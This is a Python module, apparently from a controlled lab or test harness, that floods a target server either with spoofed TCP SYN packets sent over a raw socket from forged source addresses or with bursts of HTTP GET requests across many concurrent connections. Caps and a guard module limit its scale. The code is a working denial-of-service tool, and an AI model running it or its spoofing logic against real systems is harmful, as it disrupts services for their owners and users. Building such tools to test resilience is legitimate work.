"""Ask a server for more than it can give, within bounds.

Either connections that are never completed, or many connections that each ask now and then. Both
go on until told to end, or until there have been enough.
"""

from __future__ import annotations

import http.client
import ipaddress
import random
import socket
import threading
import time

from . import guard, packets

MAX_SYNS = 1500
MORE_SYNS, EVERY_S = 20, 0.2  # after the first ones, in place of those that the server gave up
MAX_REQUESTS, MAX_CONNECTIONS = 3000, 64
PAUSE_S = 0.2  # of a connection between two requests
LONGEST_S = 15.0
CONNECT_S = 1.0


def syns(told: dict[str, object], target: tuple[str, int]) -> None:
    """Send SYNs in the name of addresses of this network that nobody has."""
    network = ipaddress.IPv4Network(str(told["network"]))
    sources = [str(each) for each in told["sources"]]  # type: ignore[attr-defined] # a list, from JSON
    sources = [each for each in sources if ipaddress.IPv4Address(each) in network]
    chance = random.Random(int(str(told["seed"])))  # noqa: S311 -- numbers, the same each time
    clock, sent = guard.Clock(LONGEST_S), 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:

        def send(count: int) -> None:
            for number in range(sent, min(sent + count, MAX_SYNS)):
                source = (sources[number % len(sources)], 20_000 + number)
                segment = packets.tcp(source, target, chance.getrandbits(32), 0, packets.SYN)
                raw.sendto(segment, (target[0], 0))

        send(first := int(str(told["count"])))
        sent = min(first, MAX_SYNS)
        guard.say(event="going")
        while clock.left and not (ended := guard.told_to_end(EVERY_S)):
            send(MORE_SYNS)
            sent = min(sent + MORE_SYNS, MAX_SYNS)
    guard.say(event="sent", syns=sent, to_the_end=ended and sent < MAX_SYNS)


class Requests:
    """Requests over several connections at a time, until there have been enough."""

    def __init__(self, target: tuple[str, int], path: str, left: int) -> None:
        self.target, self.path, self.left = target, path, left
        self.opened = self.refused = self.answered = 0
        self.lock = threading.Lock()
        self.over = threading.Event()
        self.clock = guard.Clock(LONGEST_S)

    def run(self) -> None:
        """Ask now and then until it is over; a connection is kept as long as the server does."""
        link: http.client.HTTPConnection | None = None
        while not self.over.is_set() and self.clock.left:
            try:
                if link is None:
                    link = http.client.HTTPConnection(*self.target, timeout=CONNECT_S)
                    link.connect()
                    self._count("opened")
                    link.sock.settimeout(LONGEST_S)
                with self.lock:
                    if not self.left:
                        return
                    self.left -= 1
                link.request("GET", self.path)
                link.getresponse().read()
                self._count("answered")
            except (OSError, http.client.HTTPException):
                self._count("refused")
                if link:
                    link.close()
                link = None
            self.over.wait(PAUSE_S)

    def _count(self, what: str) -> None:
        with self.lock:
            setattr(self, what, getattr(self, what) + 1)


def requests(told: dict[str, object], target: tuple[str, int]) -> None:
    """Ask over and over until told to end."""
    work = Requests(target, str(told["path"]), min(int(str(told["count"])), MAX_REQUESTS))
    connections = min(int(str(told["connections"])), MAX_CONNECTIONS)
    threads = [threading.Thread(target=work.run, daemon=True) for _ in range(connections)]
    for thread in threads:
        thread.start()
    while work.opened + work.refused < connections and work.clock.left:
        time.sleep(0.01)
    guard.say(event="going")
    told_to_end = False
    while work.clock.left and any(thread.is_alive() for thread in threads) and not told_to_end:
        told_to_end = guard.told_to_end(0.05)
    work.over.set()
    guard.say(
        event="sent",
        opened=work.opened,
        refused=work.refused,
        answered=work.answered,
        to_the_end=told_to_end,
    )


def main() -> None:
    """Flood as the order says."""
    told = guard.take_order()
    target = (guard.address_of(told["targets"][told["server"]]), int(told["port"]))
    (syns if told["kind"] == "syns" else requests)(told, target)


if __name__ == "__main__":
    main()
